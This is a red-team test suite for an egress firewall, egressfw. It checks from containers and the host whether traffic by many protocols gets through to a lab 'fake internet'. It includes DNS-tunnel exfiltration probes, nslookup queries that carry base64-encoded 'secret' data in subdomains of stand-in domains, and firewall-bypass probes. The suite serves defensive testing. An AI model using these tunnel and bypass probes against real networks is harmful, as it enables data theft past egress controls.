// Red team: roads out that no issue lists, tried for real from an attacker's seat (a container with
// Docker's default capabilities, NET_RAW included, and a process on the host). The fake internet counts
// every probe that arrives (an nft table in its own namespace); a control round before egressfw runs
// shows each probe is seen, so a zero after sync means the road is closed, not that the probe is broken.
// Roads still OPEN are `itOpen` (todo; EFW_REDTEAM_OPEN=1 runs them, and they fail while open).
import { spawn, type ChildProcess } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { snapshotMachineNetwork, startLab, type Lab } from './lab.js';
import { labDescribe } from './requirements.js';
import { CLI, efw, writeConfig } from './efw.js';

const BLOCKED_V4 = '203.0.113.20';
const BLOCKED_V6 = '2001:db8:20::20';
const ALLOWED_V4 = '203.0.113.10';
const ALLOWED_V6 = '2001:db8:10::10';
const GATE_PORT = 5300;
const PROBES = path.resolve('test/lab/probes/roads.py');
const itOpen = process.env.EFW_REDTEAM_OPEN ? it : it.todo;
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** what the fake internet counts: probe name -> nft match (destinations are the blocked site's) */
const COUNTED: Record<string, string> = {
  udp4: `ip daddr ${BLOCKED_V4} udp dport 9999`,
  udp6: `ip6 daddr ${BLOCKED_V6} udp dport 9999`,
  frag4: `ip daddr ${BLOCKED_V4} udp dport 9998`,
  gre4: `ip daddr ${BLOCKED_V4} ip protocol gre`,
  sctp4: `ip daddr ${BLOCKED_V4} ip protocol sctp`,
  raw4: `ip daddr ${BLOCKED_V4} ip protocol 253`,
  raw6: `ip6 daddr ${BLOCKED_V6} meta l4proto 253`,
  ping4: `ip daddr ${BLOCKED_V4} icmp type echo-request`,
  ping6: `ip6 daddr ${BLOCKED_V6} icmpv6 type echo-request`,
  udp53: `ip daddr ${BLOCKED_V4} udp dport 53`,
  udp853: `ip daddr ${BLOCKED_V4} udp dport 853`,
  'udp53-v6': `ip6 daddr ${BLOCKED_V6} udp dport 53`,
  tcp53: `ip daddr ${BLOCKED_V4} tcp dport 53`,
  tcp853: `ip daddr ${BLOCKED_V4} tcp dport 853`,
  tcp80: `ip daddr ${BLOCKED_V4} tcp dport 80`,
  'tcp80-v6': `ip6 daddr ${BLOCKED_V6} tcp dport 80`,
  // an ICMP error about our own allowed connection, sent elsewhere (conntrack's RELATED)
  icmperr4: `ip daddr ${BLOCKED_V4} icmp type destination-unreachable`,
  icmperr6: `ip6 daddr ${BLOCKED_V6} icmpv6 type destination-unreachable`,
  // the resolver's address, another port: DNS being allowed to it must not open the address
  'resolver-tcp80': 'ip daddr 198.51.100.53 tcp dport 80',
};
const ALL = Object.keys(COUNTED);
/**
 * Roads known to be open from the host, left out of the "closed" assertions: ufw's own before6.rules
 * accepts ICMPv6 errors to any address ahead of egressfw's jump. The error needs a raw socket
 * (CAP_NET_RAW, i.e. root, who can change the firewall anyway). (Its echo-request accept is
 * overridden by egressfw's ping6 refusal at the top of the chain: see the test below.)
 */
const HOST_OPEN = ['icmperr6'];
/** the lab host cannot send these even before egressfw runs (sendto: EPERM, ufw disabled; not investigated): not host probes */
const HOST_UNSENDABLE = ['gre4', 'raw4', 'raw6'];
const HOST_PROBES = ALL.filter((n) => !HOST_UNSENDABLE.includes(n));

labDescribe('roads out (red team: real kernel, ufw, dockerd)', { docker: true }, () => {
  let lab: Lab;
  let machineBefore: string;
  let config: string;
  let stateDir: string;
  let daemon: ChildProcess | undefined;
  const logs: string[] = [];
  let hostAfter: Record<string, number> = {};

  /** (re)create the counting table in the fake internet: every counter at zero */
  const resetCounters = async () => {
    await lab.inet(['nft', 'delete', 'table', 'inet', 'roads']);
    const rules = Object.entries(COUNTED).map(([n, m]) => `    ${m} counter comment "${n}"`);
    const r = await lab.inet(['nft', '-f', '-'], {
      input: `table inet roads {\n  chain pre {\n    type filter hook prerouting priority -450; policy accept;\n${rules.join('\n')}\n  }\n}\n`,
    });
    expect(r.exitCode, r.stderr).toBe(0);
  };
  const counters = async (): Promise<Record<string, number>> => {
    await sleep(300); // the last datagrams in flight
    const text = (await lab.inet(['nft', 'list', 'table', 'inet', 'roads'])).stdout;
    return Object.fromEntries([...text.matchAll(/counter packets (\d+) bytes \d+ comment "([^"]+)"/g)].map((m) => [m[2]!, Number(m[1])]));
  };
  const pidOf = async (c: string) => (await lab.docker(['inspect', '-f', '{{.State.Pid}}', c])).stdout.trim();
  /** the probes from inside a container's network namespace (its own stack, raw sockets as NET_RAW allows) */
  const fromContainer = async (c: string, gate?: string[]) => {
    const r = await lab.host(['nsenter', '-t', await pidOf(c), '-n', 'python3', PROBES, BLOCKED_V4, BLOCKED_V6, ALLOWED_V4, ALLOWED_V6, ...(gate ?? [])], { timeoutMs: 20_000 });
    expect(r.exitCode, r.stderr).toBe(0);
    return JSON.parse(r.stdout) as Record<string, string>;
  };
  const fromHost = async () => {
    const r = await lab.host(['python3', PROBES, BLOCKED_V4, BLOCKED_V6, ALLOWED_V4, ALLOWED_V6], { timeoutMs: 20_000 });
    expect(r.exitCode, r.stderr).toBe(0);
    return JSON.parse(r.stdout) as Record<string, string>;
  };
  const upstreamLog = () => fs.readFileSync(`${lab.dir}/dnsmasq.log`, 'utf8');

  beforeAll(async () => {
    machineBefore = await snapshotMachineNetwork();
    lab = await startLab({ docker: true, ipv6: true });
    stateDir = `${lab.dir}/state`;
    config = writeConfig(lab, 'egressfw.yml', `allow:
  - domain: allowed.test
    ports: [80]
  - domain: "*.wild.test"
    ports: [80]
dns:
  servers: [${lab.dnsServer}]
  timeout: 1s
  minTtl: 1h
  gate:
    enabled: true
    port: ${GATE_PORT}
schedule:
  refresh: "0 0 1 1 *"
  driftCheck: 1s
`);
    await lab.setRecords('a.wild.test', { A: ['203.0.113.30'] });
    const net = await lab.docker(['network', 'create', '--ipv6', '--subnet', '2001:db8:1:1::/64', 'appnet']);
    expect(net.exitCode, net.stderr).toBe(0);
    await Promise.all([lab.runContainer({ name: 'c-atk' }), lab.runContainer({ name: 'c-atk-user', network: 'appnet' })]);
  });

  afterAll(async () => {
    if (daemon) {
      const d = daemon;
      const exited = new Promise((r) => d.once('exit', r));
      d.kill('SIGTERM');
      await Promise.race([exited, sleep(5000)]);
    }
    await lab?.stop();
    expect(await snapshotMachineNetwork()).toBe(machineBefore);
  });

  it('control: before egressfw runs, every probe from a container and from the host reaches the fake internet', async () => {
    await resetCounters();
    const sent = await Promise.all([fromContainer('c-atk'), fromContainer('c-atk-user')]);
    const fromContainers = await counters();
    await resetCounters();
    const sentHost = await fromHost();
    const fromTheHost = await counters();
    expect(ALL.filter((n) => !(fromContainers[n]! > 0)), JSON.stringify(sent)).toEqual([]);
    expect(HOST_PROBES.filter((n) => !(fromTheHost[n]! > 0)), JSON.stringify(sentHost)).toEqual([]);
  });

  it('after sync with the gate: no probe from a container arrives; the gate answers redirected DNS only', async () => {
    // ufw only now: the control round sees the host's probes leave without it
    expect((await lab.host(['ufw', '--force', 'enable'])).exitCode).toBe(0);
    if (!/^2[0-6]\./.test(lab.dockerVersion)) {
      // Docker 27+: its embedded resolver must ask from the containers' side (see docs/dns-gate.md)
      await efw(lab, ['install', '--docker-dns', '--config', config]);
      await lab.restartDocker();
    }
    const sync = await efw(lab, ['sync', '--config', config, '--state-dir', stateDir]);
    expect(sync.exitCode, sync.stderr).toBe(0);
    const argv = lab.hostArgv([process.execPath, CLI, 'daemon', '--config', config, '--state-dir', stateDir]);
    daemon = spawn(argv[0]!, argv.slice(1), { stdio: ['ignore', 'pipe', 'pipe'] });
    for (const s of [daemon.stdout!, daemon.stderr!]) s.on('data', (d: Buffer) => logs.push(...d.toString().trim().split('\n')));
    for (let t0 = Date.now(); !logs.some((l) => /gate: listening/.test(l)); await sleep(200)) {
      if (Date.now() - t0 > 15_000) throw new Error(`gate not listening:\n${logs.join('\n')}`);
    }

    await resetCounters();
    const gw = (await lab.docker(['network', 'inspect', '-f', '{{(index .IPAM.Config 0).Gateway}}', 'bridge'])).stdout.trim();
    const [atk, atkUser] = await Promise.all([fromContainer('c-atk', [gw, String(GATE_PORT)]), fromContainer('c-atk-user', ['198.51.100.2', String(GATE_PORT)])]);
    const after = await counters();
    expect(ALL.filter((n) => after[n] !== 0), `arrived at the fake internet: ${JSON.stringify(after)}`).toEqual([]);
    for (const r of [atk, atkUser]) {
      // the gate's port, aimed at directly (docker0's gateway, the host's uplink address): silent (input guard)
      expect(r['gate-direct']).toBe('silent');
      // ... while DNS aimed anywhere on 53 is redirected to it and answered: so "silent" is the guard, not a dead gate
      expect(r['gate-redirected']).toBe('answered');
      expect(r.tcp853).toMatch(/^refused/);
    }
    expect(upstreamLog()).not.toMatch(/exfil\.blocked\.test/);
  });

  it('after sync: no probe from the host arrives (except the open road below)', async () => {
    await resetCounters();
    const sent = await fromHost();
    hostAfter = await counters();
    expect(HOST_PROBES.filter((n) => !HOST_OPEN.includes(n) && hostAfter[n] !== 0), `${JSON.stringify(hostAfter)} ${JSON.stringify(sent)}`).toEqual([]);
  });

  it('the host cannot ping a blocked IPv6 address (ufw before6.rules accepts echo-request ahead of the EGRESSFW-HOST jump; egressfw refuses it first)', async () => {
    expect(hostAfter.ping6).toBe(0);
    expect(hostAfter.ping4).toBe(0); // IPv4: ufw's before.rules accepts no echo-request out
    // ... while ICMPv6 that is not echo-request still works: neighbour discovery (the lab host's neighbour
    // cache emptied first), without which no IPv6 packet would leave for an allowed address either
    expect((await lab.host(['ip', '-6', 'neigh', 'flush', 'all'])).exitCode).toBe(0);
    const ok = await lab.fetch(`http://[${ALLOWED_V6}]/`, { timeoutSec: 3 });
    expect(ok.ok, ok.stderr).toBe(true);
    expect((await lab.host(['ip', '-6', 'neigh', 'show'])).stdout).toMatch(/lladdr \S+ .*(REACHABLE|STALE|DELAY)/);
  });

  it('a host process cannot ask the configured resolver any name (a DNS tunnel from the host; closed by issue 22: host DNS through the gate)', async () => {
    await lab.host(['timeout', '3', 'busybox', 'nslookup', 'aG9zdC1zZWNyZXQ.blocked.test']);
    expect(upstreamLog()).not.toMatch(/aG9zdC1zZWNyZXQ/i);
  });

  itOpen('OPEN (documented limit, docs/dns-gate.md Limits): names under an allowed wildcard carry data to the zone\'s servers (a DNS tunnel through the gate)', async () => {
    const r = await lab.docker(['exec', 'c-atk', 'timeout', '3', 'nslookup', 'c2VjcmV0LWRhdGE.a.wild.test']);
    expect(r.exitCode).not.toBe(0); // NXDOMAIN upstream, but the question got there
    expect(upstreamLog()).not.toMatch(/c2VjcmV0LWRhdGE/i);
  });

  // A name taken out of the config: what stays open after `sync` and the daemon's reload.
  let newAfterRemoval = '';
  let establishedAfterRemoval = '';
  let stillAllowed = { byIp: false, byName: false, element: false };
  it('a name removed from the config: sync closes its static allowance, the daemon\'s reload takes the gate\'s elements out', async () => {
    // a name that stays allowed, answered by the gate before the reload (only the gate opens it: a wildcard)
    const ns = await lab.docker(['exec', 'c-atk', 'timeout', '3', 'nslookup', 'a.wild.test']);
    expect(ns.stdout, ns.stderr).toMatch(/203\.0\.113\.30/);
    // an open connection to allowed.test, made while it was allowed (python holds it in the container)
    const script = [
      'import socket, sys',
      `c = socket.create_connection(("${ALLOWED_V4}", 80), timeout=3)`,
      'print("up", flush=True)',
      'sys.stdin.readline()',
      'c.sendall(b"GET /ip HTTP/1.0\\r\\nHost: allowed.test\\r\\n\\r\\n")',
      'try:',
      '    print("got" if c.recv(4096) else "closed", flush=True)',
      'except Exception as e:',
      '    print("none", e, flush=True)',
    ].join('\n');
    const argv = lab.hostArgv(['nsenter', '-t', await pidOf('c-atk'), '-n', 'python3', '-c', script]);
    const held = spawn(argv[0]!, argv.slice(1), { stdio: ['pipe', 'pipe', 'pipe'] });
    let heldOut = '';
    held.stdout!.on('data', (d: Buffer) => (heldOut += d.toString()));
    held.stderr!.on('data', (d: Buffer) => (heldOut += d.toString()));
    for (let t0 = Date.now(); !/^up/m.test(heldOut); await sleep(100)) if (Date.now() - t0 > 5000) throw new Error(`no connection: ${heldOut}`);

    fs.writeFileSync(config, fs.readFileSync(config, 'utf8').replace(/- domain: allowed\.test/, '- domain: allowed2.test'));
    const sync = await efw(lab, ['sync', '--config', config, '--state-dir', stateDir]);
    expect(sync.exitCode, sync.stderr).toBe(0);
    const reloads = logs.filter((l) => /gate: config reloaded/.test(l)).length;
    daemon!.kill('SIGHUP');
    for (let t0 = Date.now(); logs.filter((l) => /gate: config reloaded/.test(l)).length === reloads; await sleep(100)) {
      if (Date.now() - t0 > 10_000) throw new Error(`the gate did not reload:\n${logs.join('\n')}`);
    }
    const reloaded = logs.filter((l) => /gate: config reloaded/.test(l)).at(-1)!;
    console.log(`reload: ${reloaded}`);
    expect(reloaded).toMatch(/took \d+ address(es)? of names no longer allowed out of the gate sets, cut [1-9]\d* connection/);
    const table = (await lab.host(['nft', 'list', 'set', 'inet', 'egressfw', 'allow4'])).stdout;
    expect(table).not.toMatch(/203\.0\.113\.10 /);
    // right after the reload: the name still allowed keeps its element, by address (the client's own cached answer) and by name
    const [byIp, byName] = await Promise.all([
      lab.fetch('http://203.0.113.30/', { container: 'c-atk', timeoutSec: 2 }),
      lab.fetch('http://a.wild.test/', { container: 'c-atk', timeoutSec: 2 }),
    ]);
    const gate4 = (await lab.host(['nft', 'list', 'set', 'inet', 'egressfw', 'gate4'])).stdout;
    stillAllowed = { byIp: byIp.ok, byName: byName.ok, element: /203\.0\.113\.30 \. tcp \. 80/.test(gate4) };
    expect(gate4).not.toMatch(/203\.0\.113\.10 /);
    newAfterRemoval = (await lab.fetch(`http://${ALLOWED_V4}/`, { container: 'c-atk', timeoutSec: 2 })).body;
    // ... and the connection opened before?
    held.stdin!.write('go\n');
    for (let t0 = Date.now(); !/^(got|closed|none)/m.test(heldOut); await sleep(100)) if (Date.now() - t0 > 6000) break;
    held.kill('SIGKILL');
    establishedAfterRemoval = heldOut.trim().split('\n').at(-1) ?? '';
  });

  it('after the removal, the gate\'s earlier answer no longer opens the IP for new connections (was: until its element timed out, dns.minTtl, up to hours)', () => {
    expect(newAfterRemoval).toBe('');
  });

  it('... while a name still allowed keeps its gate element across the reload: a new connection right after it works', () => {
    expect(stillAllowed).toEqual({ byIp: true, byName: true, element: true });
  });

  it('a connection opened while allowed is cut when the name is removed (the gate\'s reload cuts the flows its elements carried)', () => {
    expect(establishedAfterRemoval).toMatch(/^(closed|none)/);
  });
});
